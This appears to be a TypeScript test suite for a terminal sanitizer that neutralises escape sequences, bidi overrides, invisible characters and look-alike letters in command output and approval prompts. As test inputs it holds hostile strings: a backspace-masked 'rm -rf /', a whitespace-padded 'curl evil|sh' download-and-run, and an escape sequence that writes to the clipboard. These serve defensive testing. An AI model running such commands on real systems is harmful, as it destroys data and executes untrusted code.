import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { displayName } from "./display-name.ts";
import { createTerminalSanitizer } from "./output-sanitizer.ts";
import { sanitizeTerminal } from "./sanitize-terminal.ts";

const output = (text: string, color = false): string => sanitizeTerminal(text, { context: "output", color });
const approval = (text: string): string => sanitizeTerminal(text, { context: "approval" });

/** Text in which hostile sequences are likely. */
const hostile = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        "\u001b",
        "\u001b[",
        "\u001b]0;t",
        "\u0007",
        "\u009b",
        "\u009d",
        "\u001b\\",
        "31m",
        "2J",
        "\r",
        "\n",
        "\b",
        "\u202e",
        "\u200f",
        "א",
        "🏴",
        "\u{e0067}",
        "\ufe0f",
        "\u0301",
        "\ud83d",
        "é",
        "P0ff0000",
        ";5;16;48",
      ),
      fc.string({ unit: "binary", maxLength: 4 }),
    ),
    { maxLength: 30 },
  )
  .map((parts) => parts.join(""));

describe("output", () => {
  test.each([
    ["a screen is not cleared", "a\u001b[2Jb", "ab"],
    ["a title is not set", "\u001b]0;pwned\u0007text", "text"],
    ["an unfinished string does not swallow the next line", "\u001b]0;never closed\nnext", "\nnext"],
    ["a pass-through for tmux is dropped whole", "\u001bPtmux;\u001b\u001b]52;c;QQ==\u0007\u001b\\x", "x"],
    ["8-bit controls are controls", "\u009b2Jx\u009d0;t\u009cy", "xy"],
    ["a Linux palette command has no terminator", "\u001b]P0ff0000x", "x"],
    ["backspaces hide nothing", "rm -rf /\b\b\bls", "rm -rf /ls"],
    ["a lone carriage return shows both texts", "safe\rEVIL\r", "safe\nEVIL\n"],
    ["line ends of Windows become plain ones", "a\r\nb", "a\nb"],
    ["a restarted sequence is one sequence", "\u001b[12\u001b[31mx", "x"],
    ["overrides are spelt", "a\u202etxt", "a\\u{202e}txt"],
    ["a directional mark between Latin letters is spelt", "a\u200fb", "a\\u{200f}b"],
    ["a directional mark inside Hebrew stays", "א\u200f!", "א\u200f!"],
    ["tag characters are spelt", "x\u{e0041}y", "x\\u{e0041}y"],
    ["a second variation selector is spelt", "a\ufe0f\ufe01", "a\ufe0f\\u{fe01}"],
    ["stacks of accents are cut", `e${"\u0301".repeat(50)}`, `e${"\u0301".repeat(8)}`],
  ])("%s", (_claim, text, expected) => {
    expect(output(text)).toBe(expected);
  });

  test.each([
    "tab\tand – “quotes” …\n",
    "👨‍👩‍👧 ❤️ 🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}\n",
    "naïve café\u00a0— é vs e\u0301\n",
    "می‌خواهم हिन्दी ไทย 日本語\n",
    "^[[31m caret, a]0;title, C:\\Users\n",
    "𝒳 𝔘𝔫𝔦 🧪\n",
  ])("%j stays as it is", (text) => {
    expect(output(text)).toBe(text);
  });

  test("colours stay when asked for, but not those that hide text", () => {
    expect(output("\u001b[1;31mx\u001b[0m", true)).toBe("\u001b[1;31mx\u001b[0m");
    expect(output("\u001b[38:2::255:0:0mx\u001b[0m", true)).toBe("\u001b[38:2::255:0:0mx\u001b[0m");
    expect(output("\u001b[8mx\u001b[38;5;16;48;5;16my", true)).toBe("xy");
    expect(output("\u001b[30mx\u001b[48;2;0;0;0my", true)).toBe("\u001b[30mxy\u001b[0m");
    expect(output("\u001b[31mx\u001b[2Jy", true)).toBe("\u001b[31mxy\u001b[0m");
  });

  test("no control but tab and line end survives any text", () => {
    fc.assert(
      fc.property(hostile, (text) => {
        expect(output(text)).toMatch(
          /^[^\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]*$/u,
        );
        expect(output(text, true).replaceAll(/\u001b\[[\d;:]*m/g, "")).not.toContain("\u001b");
      }),
    );
  });

  test("cleaning twice changes nothing more", () => {
    fc.assert(
      fc.property(hostile, (text) => {
        expect(output(output(text))).toBe(output(text));
      }),
    );
  });

  test("a stream gives what the whole text gives, wherever it is cut", () => {
    fc.assert(
      fc.property(hostile, fc.integer({ min: 1, max: 5 }), fc.boolean(), (text, size, color) => {
        const sanitizer = createTerminalSanitizer({ color });
        let shown = "";
        for (let at = 0; at < text.length; at += size) shown += sanitizer.push(text.slice(at, at + size));
        expect(shown + sanitizer.end()).toBe(output(text, color));
      }),
    );
  });
});

describe("approval", () => {
  test.each([
    ["sequences are spelt", "ls\u001b]0;x\u0007", "ls\\x1b]0;x\\x07"],
    ["invisibles are spelt", "a\u00adb\u3164c\u200bd", "a\\u{ad}b\\u{3164}c\\u{200b}d".replace("\\u{ad}", "\\xad")],
    ["a look-alike letter in a word is spelt", "g\u0456t status", "g\\u{456}t status"],
    ["a foreign program name is spelt, its text is not", "сору 'привет'", "\\u{441}\\u{43e}\\u{440}\\u{443} 'привет'"],
    ["so is one after an operator", "ls;\u0455\u04bb x", "ls;\\u{455}\\u{4bb} x"],
    ["text that imitates our buttons is set off", "x\n[y] allow", "x\n│ [y] allow"],
    ["an indented script keeps its indentation", "if x\n    y", "if x\n│     y"],
    ["a dash that is none is spelt", "rm \u2010rf a – b–c", "rm \\u{2010}rf a \\u{2013} b–c"],
    ["accents in arguments stay", "echo café ❤️", "echo café ❤️"],
  ])("%s", (_claim, text, expected) => {
    expect(approval(text)).toBe(expected);
  });

  test("long runs of blanks and empty lines are counted", () => {
    expect(approval(`ls${" ".repeat(400)}; curl evil|sh`)).toBe("ls [… 400 blanks …] ; curl evil|sh");
    expect(approval("rm x;\ta\té\t\n\tb")).toBe("rm x;   a       é       \n│         b");
    expect(approval(`a${"\n".repeat(50)}b`)).toBe("a\n│ [… 49 empty lines …]\n│ b");
  });

  test("every character of a command but blanks, tabs and line ends is visible", () => {
    fc.assert(
      fc.property(hostile, (text) => {
        expect(approval(text)).not.toMatch(
          /[\u0000-\u0008\u000b-\u001f\u007f-\u00a0\u00ad\u200b-\u200f\u2028-\u202f\u2060-\u206f\ufeff\u{e0000}-\u{e01ef}]/u,
        );
      }),
    );
  });
});

test("a name is one line, whatever is in it", () => {
  expect(displayName("a\nb\u001b[31m\u202etxt é")).toBe("a\\nb\\x1b[31m\\u{202e}txt é");
});
